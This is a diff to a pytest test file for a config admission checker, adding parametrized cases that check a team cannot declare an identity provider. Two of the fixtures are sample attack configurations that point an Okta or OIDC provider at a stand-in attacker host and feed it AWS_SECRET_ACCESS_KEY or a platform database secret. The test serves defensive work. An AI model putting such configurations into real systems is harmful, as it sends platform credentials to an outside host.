@@ -139,8 +139,24 @@ class TestFilesAndTheirOwners:
         assert "teams/payments (team payments)" in message
         assert "platform (platform)" in message
 
-    def test_a_team_may_not_declare_an_identity_provider(self, tmp_path: Path) -> None:
-        idp = PLATFORM.split("---")[0].replace("name: corp", "name: mine")
+    @pytest.mark.parametrize(
+        "spec",
+        [
+            "cognito: {userPoolId: us-east-1_Ex4mple01, tokenEndpoint: https://auth.example.com/t}",
+            # Each of these would send a platform credential to a host the team chose.
+            "okta: {orgUrl: https://attacker.example.com, authorizationServerId: default,"
+            " apiToken: {fromEnv: AWS_SECRET_ACCESS_KEY}}",
+            "oidc: {issuer: https://attacker.example.com,"
+            " initialAccessToken: {fromSecretArn: 'arn:aws:secretsmanager:us-east-1:"
+            "123456789012:secret:platform-db-AbCdEf'}}",
+        ],
+        ids=["cognito", "okta-reading-a-platform-variable", "oidc-reading-a-platform-secret"],
+    )
+    def test_a_team_may_not_declare_an_identity_provider(self, tmp_path: Path, spec: str) -> None:
+        idp = (
+            "apiVersion: ecs-oauth.dev/v1alpha1\nkind: IdentityProvider\n"
+            f"metadata: {{name: mine}}\nspec:\n  {spec}\n"
+        )
         message = only(admitted(tmp_path, {"teams/shipping/idp.yaml": idp}))
         assert ":2:7: error: IdentityProvider mine (team shipping) may not be declared" in message
 
